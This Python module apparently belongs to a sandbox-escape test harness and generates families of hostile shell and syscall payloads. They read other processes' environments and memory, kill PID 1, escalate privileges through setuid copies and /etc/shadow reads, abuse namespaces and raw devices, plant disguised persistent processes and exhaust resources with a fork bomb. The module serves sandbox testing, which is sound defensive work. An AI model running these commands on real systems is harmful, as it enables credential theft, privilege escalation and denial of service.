"""Hostile commands that aim at processes, at the kernel, and at what a machine has too little of."""

from __future__ import annotations

from collections.abc import Iterator

from trial.attacks.escapes import Escape, Surroundings, command, family, python

_PROC = (
    "cat /proc/{pid}/environ | tr '\\0' '\\n'",
    "tr '\\0' ' ' </proc/{pid}/cmdline",
    "cat /proc/{pid}/maps; cat /proc/{pid}/smaps | head",
    "ls -la /proc/{pid}/fd /proc/{pid}/fdinfo /proc/{pid}/map_files; cat /proc/{pid}/fd/*",
    "cat /proc/{pid}/task/*/environ /proc/{pid}/task/*/cmdline",
    "cat /proc/{pid}/stack /proc/{pid}/syscall /proc/{pid}/auxv /proc/{pid}/io",
    "ls /proc/{pid}/cwd/ /proc/{pid}/root/root",
    "nsenter -t {pid} -a cat /etc/shadow",
    "nsenter -t {pid} -m -n -p id",
    "gdb -p {pid} -batch -ex 'info registers'; strace -p {pid} -o t & sleep 0.2; cat t",
    "gcore {pid}; cat core*",
    "echo x >/proc/{pid}/comm; echo 0 >/proc/{pid}/oom_score_adj; echo 1 >/proc/{pid}/clear_refs",
    "echo 9 >/proc/{pid}/fd/1; echo x >/proc/{pid}/fd/0; cat </proc/{pid}/fd/0 & sleep 0.2; kill $!",
    "ls -la /proc/{pid}/ns; cat /proc/{pid}/status /proc/{pid}/mountinfo",
)
_PROC_BY_CALLS = (
    "import re\n"
    "for line in open('/proc/{pid}/maps'):\n"
    "    a, b = (int(x, 16) for x in line.split()[0].split('-'))\n"
    "    if 'heap' in line or 'rw-p' in line:\n"
    "        mem = open('/proc/{pid}/mem', 'rb', 0); mem.seek(a); sys.stdout.buffer.write(mem.read(min(b - a, 999999)))",
    "mem = os.open('/proc/{pid}/mem', os.O_RDWR); os.lseek(mem, 0x400000, 0); os.write(mem, b'x')",
    "if let_in(call(101, 16, {pid}, 0, 0)): print({won!r}[::-1])",  # PTRACE_ATTACH
    "if let_in(call(101, 0x4206, {pid}, 0, 0)): print({won!r}[::-1])",  # PTRACE_SEIZE
    "local = ctypes.create_string_buffer(64)\n"
    "a = (ctypes.c_void_p * 2)(ctypes.addressof(local), 64); b = (ctypes.c_void_p * 2)(0x400000, 64)\n"
    "if let_in(call(310, {pid}, a, 1, b, 1, 0)): print({won!r}[::-1])",
    "local = ctypes.create_string_buffer(64)\n"
    "a = (ctypes.c_void_p * 2)(ctypes.addressof(local), 64); b = (ctypes.c_void_p * 2)(0x400000, 64)\n"
    "if let_in(call(311, {pid}, a, 1, b, 1, 0)): print({won!r}[::-1])",
    "fd = call(434, {pid}, 0)\nif fd >= 0 and call(438, fd, 0, 0) >= 0: print({won!r}[::-1])",
    "fd = call(434, {pid}, 0); print(call(424, fd, 15, 0, 0), call(440, fd, 0, 0, 4, 0), call(448, fd, 0))",
    "call(302, {pid}, 7, struct.pack('QQ', 5, 5), 0); call(302, {pid}, 0, struct.pack('QQ', 1, 1), 0)",
    "call(203, {pid}, 8, struct.pack('Q', 1)); call(141, 0, {pid}, 19); call(251, 1, {pid}, 0x6007)",
    "call(144, {pid}, 5, struct.pack('i', 0)); call(314, {pid}, struct.pack('IIQiIQQQ', 48, 5, 0, 0, 0, 0, 0, 0), 0)",
    "call(256, {pid}, 64, bytes(8), bytes(8)); call(279, {pid}, 0, 0, 0, 0, 0); call(312, {pid}, os.getpid(), 0, 0, 0)",
    "call(234, {pid}, {pid}, 15); call(200, {pid}, 15); call(129, {pid}, 15, bytes(128)); call(297, {pid}, {pid}, 12, bytes(128))",
)
_ALL_PROCESSES = (
    "ps auxwwe; ps -eo args",
    "for p in /proc/[0-9]*; do tr '\\0' ' ' <$p/cmdline; tr '\\0' ' ' <$p/environ; done",
    "cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ /proc/[0-9]*/task/*/cmdline",
    "pgrep -af .; pstree -a; top -bn1 | head -30; lsof -n | head; fuser -v /",
    "i=1; while [ $i -lt 3000 ]; do cat /proc/$i/cmdline 2>/dev/null; i=$((i+1)); done",
    "cat /proc/sched_debug /proc/timer_list /proc/kallsyms /proc/kcore /proc/keys /proc/slabinfo | head -c 2000",
    "cat /proc/$PPID/environ /proc/$PPID/cmdline /proc/1/environ /proc/1/cmdline | tr '\\0' '\\n'",
)
_SIGNALS = (0, 1, 2, 3, 6, 9, 10, 11, 12, 13, 14, 15, 17, 18, 19, 20, 23, 30, 34, 50, 64)
_CALLS = {
    "bpf": "321, 0, bytes(72), 72", "bpf program": "321, 5, bytes(120), 120", "userfaultfd": "323, 0",
    "userfaultfd of user mode": "323, 1", "perf_event_open": "298, bytes(128), 0, -1, -1, 0",
    "io_uring_setup": "425, 8, bytes(120)", "io_uring_enter": "426, -1, 0, 0, 0, 0, 0",
    "io_uring_register": "427, -1, 0, 0, 0", "keyctl": "250, 0, -3, 1", "join a session keyring": "250, 1, b'{marker}'",
    "add_key": "248, b'user', b'{marker}', b'x', 1, -4", "request_key": "249, b'user', b'{marker}', 0, 0",
    "kexec_load": "246, 0, 0, 0, -1", "init_module": "175, b'', 0, b''", "finit_module": "313, -1, b'', 0",
    "delete_module": "176, b'{marker}', 0", "reboot": "169, 1, 2, 3, 0", "swapon": "167, b'/x', 0", "acct": "163, b'/x'",
    "syslog": "103, 3, 0, -1", "settimeofday": "164, bytes(16), 0", "clock_settime": "227, 99, bytes(16)",
    "adjtimex": "159, bytes(208)", "sethostname": "170, b'{marker}', 4", "setdomainname": "171, b'{marker}', 4",
    "iopl": "172, 3", "ioperm": "173, 0, 1, 1", "modify_ldt": "154, 0, 0, 0", "quotactl": "179, 0, 0, 0, 0",
    "fanotify_init": "300, 0, 0", "name_to_handle_at": "303, -100, b'/', bytes(64), bytes(8), 0",
    "open_by_handle_at": "304, -100, bytes(64), 0", "lookup_dcookie": "212, 0, 0, 0", "vhangup": "153",
    "process_madvise": "440, -1, 0, 0, 0, 0", "kcmp": "312, 1, 1, 0, 0, 0", "move_pages": "279, 1, 0, 0, 0, 0, 0",
    "uselib": "134, b'/bin/true'", "clone3": "435, bytes(88), 88", "mount_setattr": "442, -1, 0, 0, 0, 0",
    "open_tree": "428, -100, b'/', 1", "fsopen": "430, b'tmpfs', 0", "fspick": "433, -100, b'/', 0",
    "move_mount": "429, -1, b'', -100, b'/', 4", "mount": "165, b'x', b'/tmp', b'tmpfs', 0, 0", "umount": "166, b'/', 2",
    "pivot_root": "155, b'/', b'/'", "chroot": "161, b'/'", "setns": "308, -1, 0", "ptrace": "101, 16, 1, 0, 0",
    "unshare user": "272, 0x10000000", "unshare mounts": "272, 0x20000", "unshare network": "272, 0x40000000",
    "unshare processes": "272, 0x20000000", "unshare all": "272, 0x7e020000", "unshare time": "272, 0x80",
    "unshare cgroups": "272, 0x02000000", "unshare ipc": "272, 0x08000000", "unshare names": "272, 0x04000000",
}  # fmt: skip
_NAMESPACES = (
    "unshare -r {then}", "unshare -rm {then}", "unshare -rn {then}", "unshare -rpf --mount-proc {then}",
    "unshare -Urmpfni {then}", "unshare -n {then}", "unshare -m {then}", "unshare -U {then}",
    "nsenter --target 1 --mount {then}", "bwrap --dev-bind / / {then}", "bwrap --bind / / --unshare-all {then}",
    "mount --bind / $TMPDIR && {then}", "mount -t tmpfs none . && {then}", "mount -t proc none . && {then}",
    "mount -t overlay none -o lowerdir=/,upperdir=.,workdir=. . && {then}", "mount --rbind /proc . && {then}",
    "umount -l /proc; umount -l /tmp; umount -l $PWD; umount -a; ls /tmp", "chroot / {then}", "chroot . /bin/true",
    "pivot_root . .", "fusermount -u /; fusermount3 -o ro .", "systemd-nspawn -D / {then}", "podman run x; docker run x",
    "newuidmap $$ 0 0 1; newgidmap $$ 0 0 1", "setns x", "lxc-unshare -s USER {then}", "firejail --noprofile {then}",
)  # fmt: skip
_PRIVILEGES = (
    "su -c 'cat /etc/shadow'", "echo | su root -c id", "sudo -n cat /etc/shadow", "sudo -n id", "pkexec id",
    "passwd -d root; chsh -s /bin/sh; chfn -f x", "newgrp root; sg root id", "doas id; runuser -u root id",
    "setpriv --reuid=0 cat /etc/shadow", "setpriv --ambient-caps=+all --inh-caps=+all id", "capsh --caps=all -- -c id",
    "cp /bin/sh s && chmod 6755 s && ./s -p -c 'cat /etc/shadow'", "setcap cap_setuid+ep ./s; cp $(which python3) p; setcap all+ep p",
    "mount -o suid,remount .", "find / -xdev -perm -4000 -type f -exec sh -c '{{}} --version </dev/null' ';' 2>/dev/null | head -40",
    "ping -c1 -W1 127.0.0.1; /usr/lib/openssh/ssh-keysign; /usr/lib/dbus-1.0/dbus-daemon-launch-helper x",
    "LD_PRELOAD=$PWD/x.so su -c id; GCONV_PATH=. pkexec x; LD_DEBUG=all su -c id 2>&1 | tail -3",
)  # fmt: skip
_PRIVILEGE_CALLS = (
    "for number in (105, 113, 117):\n    call(number, 0, 0, 0)\nif 0 in os.getresuid() or 0 in os.getresgid(): print({won!r}[::-1])",
    "os.setgroups([0])\nprint({won!r}[::-1])",
    "if call(126, struct.pack('Ii', 0x20080522, 0), struct.pack('6I', *[0xffffffff] * 6)) == 0: print({won!r}[::-1])",
    "if call(157, 47, 2, 21, 0, 0) == 0: print({won!r}[::-1])",  # raise CAP_SYS_ADMIN into the ambient set
    "if call(157, 38, 0, 0, 0, 0) == 0: print({won!r}[::-1])",  # take no_new_privs back
    "if call(157, 28, 0, 0, 0, 0) == 0 and call(157, 27, 0, 0, 0, 0) != 0: print({won!r}[::-1])",
    "if call(157, 39, 0, 0, 0, 0) != 1: print({won!r}[::-1])",  # PR_GET_NO_NEW_PRIVS
    "if call(157, 21, 0, 0, 0, 0) != 2: print({won!r}[::-1])",  # PR_GET_SECCOMP
    "import resource\nresource.setrlimit(resource.RLIMIT_NPROC, (9999, 9999))\nprint({won!r}[::-1])",
    "import resource\nresource.setrlimit(resource.RLIMIT_FSIZE, (-1, -1))\nprint({won!r}[::-1])",
    "import resource\nresource.setrlimit(resource.RLIMIT_DATA, (-1, -1))\nprint({won!r}[::-1])",
    "import resource\nif -1 in (resource.getrlimit(k)[1] for k in (0, 1, 2, 4, 6, 7) if k in (1, 2, 4, 6, 7)): print({won!r}[::-1])",
    "os.nice(-5)\nprint({won!r}[::-1])",
)  # fmt: skip
_DEVICES = (
    "mem", "kmem", "port", "kmsg", "sda", "vda", "nvme0n1", "loop0", "loop-control", "dm-0", "fuse", "net/tun", "kvm",
    "vsock", "vhost-net", "vhost-vsock", "userfaultfd", "uinput", "input/event0", "console", "tty0", "tty1", "ttyS0",
    "ptmx", "pts/0", "rtc0", "hpet", "watchdog", "snapshot", "mapper/control", "btrfs-control", "autofs", "hwrng",
    "cpu_dma_latency", "dri/card0", "snd/control", "rfkill", "mqueue/x", "hugepages/x", "shm/x",
)  # fmt: skip
_STAY = (
    "setsid sleep {n} & disown; exit 0",
    "nohup sleep {n} >/dev/null 2>&1 &",
    "(setsid sh -c 'trap \"\" TERM HUP INT; while :; do sleep {n}; done' &) ; exit 0",
    "sh -c 'sleep {n} & sleep {n} & exec sleep {n}' & exit 3",
    "python3 -c 'import os,time\nfor i in range(3):\n  if os.fork(): os._exit(0)\n  os.setsid()\ntime.sleep({n})'",
    "trap '' TERM HUP; sleep {n} & kill -9 $$",
    "sleep {n} | sleep {n} & exec >/dev/null 2>&1; exit 0",
    "for i in 1 2 3 4 5 6 7 8; do setsid sleep {n} & done; kill -STOP $$ & sleep 0.1; kill -CONT $$",
    "bash -c 'coproc sleep {n}; disown -a'; exec true",
    "at now +1 minute </dev/null; (sleep {n}; touch late) &",
)
_STAY_BY_CALLS = (
    "libc.prctl(36, 1, 0, 0, 0)\nif os.fork() == 0:\n    os.setsid(); libc.prctl(1, 0, 0, 0, 0); time.sleep({n})",
    "for i in range(40):\n    if os.fork():\n        os._exit(0)\n    os.setsid()\ntime.sleep({n})",
    "begin = time.monotonic()\nif os.fork(): os._exit(0)\nos.setsid()\n"
    "while time.monotonic() < begin + 4:\n    if os.fork(): os._exit(0)",  # each process starts its successor
    "os.setsid()\nfor number in range(1, 32):\n    try: signal.signal(number, signal.SIG_IGN)\n    except OSError: pass\n"
    "if os.fork() == 0:\n    [os.close(fd) for fd in (0, 1, 2)]; time.sleep({n})",
    "pid = os.fork()\nif pid == 0:\n    os.execv('/bin/sleep', ['kworker/0:1', '{n}'])\n",
    "os.kill(os.getppid(), 19); os.kill(os.getppid(), 18)\nif os.fork() == 0: time.sleep({n})",
    "import threading\nthreading.Thread(target=time.sleep, args=({n},)).start()\nos.fork()\nlibc.syscall(60, 0)",
)
# All of them stop by themselves, should nothing else stop them.
_EXHAUST = (
    "for i in $(seq 400); do sleep 3 & done 2>/dev/null; sleep 1; echo $(jobs -p | wc -l)",
    ":(){{ [ $1 -gt 9 ] || {{ : $(($1+1)) | : $(($1+1)) & }}; }}; : 0 2>/dev/null; sleep 1",
    "dd if=/dev/zero of=big bs=1M count=64 2>&1; rm -f big",
    "truncate -s 1T sparse; ls -la sparse",
    "fallocate -l 500G huge; ls -la huge",
    "yes | head -c 30000000",
    "head -c 5000000 /dev/urandom",
    "mkdir many; cd many; seq 3000 | xargs touch; ls | wc -l",
    "i=0; while [ $i -lt 2500 ] && mkdir d && cd d; do i=$((i+1)); done; touch deep",
    "cd $TMPDIR; i=0; while [ $i -lt 2500 ] && mkdir d && cd d; do i=$((i+1)); done; chmod 0 .; cd /",
    "touch $(printf 'n%.0s' $(seq 255)); mkfifo f; ls",
    "ulimit -n 4096; ulimit -u 9999; ulimit -c unlimited; ulimit -f unlimited; ulimit -d unlimited; ulimit -a",
    "export BIG=$(head -c 100000 /dev/zero | tr '\\0' x); export BIG2=$BIG; exit 0",
    "for i in $(seq 2000); do export V$i=xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; done; exit 0",
    "head -c 300000 /dev/zero | tr '\\0' '\\n'; seq 100000",
    "cat /dev/zero | head -c 20000000 | tr '\\0' '\\033'",
    "while :; do :; done",
    "sleep 99",
)  # fmt: skip
_EXHAUST_BY_CALLS = (
    "held = []\nfor n in range(10): held.append(bytearray(64 << 20))\nprint({won!r}[::-1])",
    "import mmap\nheld = [mmap.mmap(-1, 64 << 20, 34) for n in range(10)]\nprint({won!r}[::-1])",  # private
    "import mmap\nheld = [mmap.mmap(-1, 64 << 20) for n in range(6)]\nfor each in held: each[0:99] = b'x' * 99",
    "pids = []\nfor n in range(600):\n    pid = os.fork()\n    if pid == 0: time.sleep(2); os._exit(0)\n    pids.append(pid)\nprint({won!r}[::-1])",
    "import threading\nthreads = [threading.Thread(target=time.sleep, args=(1,)) for n in range(600)]\nfor t in threads: t.start()\nprint({won!r}[::-1])",
    "held = [os.open('/dev/null', 0) for n in range(3000)]\nprint({won!r}[::-1])",
    "held = [os.pipe() for n in range(3000)]\nprint({won!r}[::-1])",
    "fd = os.open('f', os.O_RDWR | os.O_CREAT); os.lseek(fd, 1 << 40, 0); os.write(fd, b'x')\nprint({won!r}[::-1])",
    "fd = libc.memfd_create(b'm', 0); os.ftruncate(fd, 1 << 41)\nprint({won!r}[::-1])",
    "sys.stdout.write('x' * 8000000)",
    "sys.setrecursionlimit(10**9)\ndef f(): f()\nf()",
)
_SHARED = (
    "if call(29, 0x{key}, 4096, 0o1666) >= 0: print('shm')",
    "if call(64, 0x{key}, 1, 0o1666) >= 0: print('sem')",
    "if call(68, 0x{key}, 0o1666) >= 0: print('msg')",
    "call(240, b'{marker}', 0o102, 0o666, 0)",
    "open('/dev/shm/{marker}', 'w').write('x')",
    "fd = libc.shm_open(b'/{marker}', 0o102, 0o666); print(fd)",
    "fd = call(319, b'{marker}', 0); os.write(fd, b'x')",
    "call(248, b'user', b'{marker}', b'x', 1, -5); call(248, b'user', b'{marker}', b'x', 1, -3)",
    "call(240, b'{marker}', 0o102, 0o666, 0); open('/dev/mqueue/{marker}', 'w')",
)


@family("/proc of others")
def proc(around: Surroundings) -> Iterator[str]:
    for pid in (str(around.victim), str(around.gateway), "1", "$PPID"):
        yield from (way.format(pid=pid) for way in _PROC)
    yield from _ALL_PROCESSES


@family("ptrace and memory of others")
def memory(around: Surroundings) -> Iterator[str]:
    for pid in (around.victim, around.gateway):
        yield from (python(way.format(pid=pid, won=around.won[::-1])) for way in _PROC_BY_CALLS)


@family("signals")
def signals(around: Surroundings) -> Iterator[str]:
    for pid in (around.victim, around.gateway):
        yield from (f"kill -{number} {pid}" for number in _SIGNALS)
        yield from (python(f"os.kill({pid}, {number})") for number in (0, 9, 15, 19))
        yield python(f"fd = call(434, {pid}, 0); print(call(424, fd, 9, 0, 0))")
        yield python(f"os.killpg({pid}, 9)")
        yield python(
            f"import fcntl; fd = os.open('f', 66); fcntl.fcntl(fd, 8, {pid}); fcntl.fcntl(fd, 10, 9)"
        )
        yield f"kill -9 -{pid}; kill -STOP {pid}; timeout -s KILL 1 sh -c 'kill -KILL {pid}'"
    yield "kill -9 $PPID; kill -9 1; kill -STOP $PPID; kill -TERM 1"
    yield "kill -STOP 0"
    yield "kill -9 0"
    if around.has_own_uid:
        yield "pkill -9 -f BAIT; pkill -9 python; pkill -9 talaria; killall -9 python3"
        yield from ("kill -15 -1", "kill -9 -1", python("os.kill(-1, 19)"))


@family("calls of the kernel")
def calls(around: Surroundings) -> Iterator[str]:
    for arguments in _CALLS.values():
        said = arguments.format(marker=around.marker)
        yield python(f"if let_in(call({said})): print({around.won[::-1]!r}[::-1])")
    for number, flags in ((56, 0x10000011), (56, 0x20011), (56, 0x40000011), (56, 0x7E020011)):
        yield python(
            f"pid = call({number}, {flags}, 0, 0, 0, 0)\nif pid == 0: os._exit(0)\n"
            f"if pid > 0: print({around.won[::-1]!r}[::-1])"
        )


@family("namespaces and mounts")
def namespaces(around: Surroundings) -> Iterator[str]:
    for path in (around.files[0], "/etc/shadow"):
        yield from (way.format(then=f"cat {path}") for way in _NAMESPACES)


@family("privileges and setuid programs")
def privileges(around: Surroundings) -> Iterator[str]:
    yield from (way.replace("{{}}", "{}") for way in _PRIVILEGES)
    yield from (python(way.format(won=around.won[::-1])) for way in _PRIVILEGE_CALLS)


@family("devices and terminals")
def devices(around: Surroundings) -> Iterator[str]:
    for name in _DEVICES:
        yield f"head -c 512 /dev/{name} | strings | head -3; echo {around.marker} >/dev/{name}"
    for kind, major, minor in (("c", 1, 1), ("b", 254, 0), ("b", 8, 0), ("c", 5, 1), ("c", 10, 229)):
        yield f"mknod d {kind} {major} {minor} && head -c 99 d; mknod $TMPDIR/d {kind} {major} {minor}; ls -la d"
    for number, value in ((0x5412, "b'x'"), (0x541C, "b'\\x03'"), (0x540E, "0"), (0x4B33, "0")):
        won = f"print({around.won[::-1]!r}[::-1])" if number in (0x5412, 0x541C) else "print('done')"
        yield python(
            "a, b = os.openpty() if os.path.exists('/dev/ptmx') else (0, 0)\n"
            f"for fd in (0, 1, 2, b):\n    if libc.ioctl(fd, ctypes.c_ulong({number}), {value}) == 0: {won}"
        )
    yield "echo id >/dev/tty; stty -a </dev/tty; cat /dev/tty & sleep 0.1; kill $!; script -qc id /dev/null"
    yield "reset; tput smcup; setterm -dump 1; chvt 2; openvt id; loadkeys </dev/null; wall hello; write root </dev/null"


@family("processes that stay")
def stay(around: Surroundings) -> Iterator[str]:
    # The number names the sleeper, so that it is found by its command line.
    number = 100_000 + int(around.marker[-4:], 16)
    yield from (way.format(n=number) for way in _STAY)
    yield from (python(way.format(n=number)) for way in _STAY_BY_CALLS)


@family("exhaustion")
def exhaust(around: Surroundings) -> Iterator[Escape]:
    texts = [way.format() if "{{" in way else way for way in _EXHAUST]
    texts += [python(way.format(won=around.won[::-1])) for way in _EXHAUST_BY_CALLS]
    yield from (Escape("exhaustion", ((command(text, 3),),)) for text in texts)
    if around.has_own_uid:
        yield Escape("exhaustion", ((command(":(){ :|:& };:", 2),),))


@family("shared memory and queues")
def shared(around: Surroundings) -> Iterator[str]:
    key = f"7a{around.marker[-6:]}"
    yield from (python(way.format(key=key, marker=around.marker)) for way in _SHARED)
    yield f"ipcmk -M 4096; ipcmk -Q; ipcmk -S 1; ipcs; echo x >/dev/shm/{around.marker}"
    yield f"keyctl add user {around.marker} x @u; keyctl show; cat /proc/keys"
